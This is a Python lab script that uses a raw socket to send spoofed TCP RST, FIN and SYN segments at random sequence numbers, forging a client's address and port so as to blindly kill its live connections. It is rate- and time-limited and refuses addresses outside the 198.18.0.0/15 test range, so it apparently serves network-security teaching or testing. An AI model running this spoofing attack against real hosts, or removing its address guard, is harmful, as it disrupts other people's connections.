#!/usr/bin/env python3
"""Blind attacks on live TCP connections, for the namespace lab: for each client port given,
COUNT RSTs and COUNT FIN|ACKs at random sequence numbers, then one SYN, all with the client's
address and port forged as the source, to DST:DPORT, at most RATE packets a second. Bounded by
COUNT and by SECONDS; it stops by itself and prints what it sent. Run it in the lab's spoofer
namespace only.
   spoof-segments.py CLIENT DST DPORT COUNT RATE SECONDS PORT [PORT ...]"""
import random
import os
import socket
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
from inet import tcp_segment  # noqa: E402

client, dst, dport, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
rate, seconds = float(sys.argv[5]), float(sys.argv[6])
ports = [int(p) for p in sys.argv[7:]]
for address in (client, dst):
    if not address.startswith("198.18.") and not address.startswith("198.19."):
        sys.exit("spoof-segments: lab addresses (198.18.0.0/15) only")
RST, SYN, FIN, ACK = 0x04, 0x02, 0x01, 0x10


def segment(src, dst_bytes, sport, seq, ack, flags):
    return tcp_segment(src, dst_bytes, sport, dport, seq, ack, flags)


s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
src, dst_bytes = socket.inet_aton(client), socket.inet_aton(dst)
rnd = random.Random(7)
sent = {"rst": 0, "fin": 0, "syn": 0}
start = time.monotonic()
end = start + seconds


def pace():
    """Sleeps while ahead of RATE packets a second."""
    ahead = sum(sent.values()) / rate - (time.monotonic() - start)
    if ahead > 0:
        time.sleep(ahead)


for port in ports:
    for _ in range(count):
        if time.monotonic() >= end:
            break
        s.sendto(segment(src, dst_bytes, port, rnd.getrandbits(32), rnd.getrandbits(32), RST | ACK), (dst, 0))
        s.sendto(segment(src, dst_bytes, port, rnd.getrandbits(32), rnd.getrandbits(32), FIN | ACK), (dst, 0))
        sent["rst"] += 1
        sent["fin"] += 1
        pace()
    s.sendto(segment(src, dst_bytes, port, rnd.getrandbits(32), 0, SYN), (dst, 0))
    sent["syn"] += 1
print(f"spoofed rst {sent['rst']} fin {sent['fin']} syn {sent['syn']} on {len(ports)} connections")
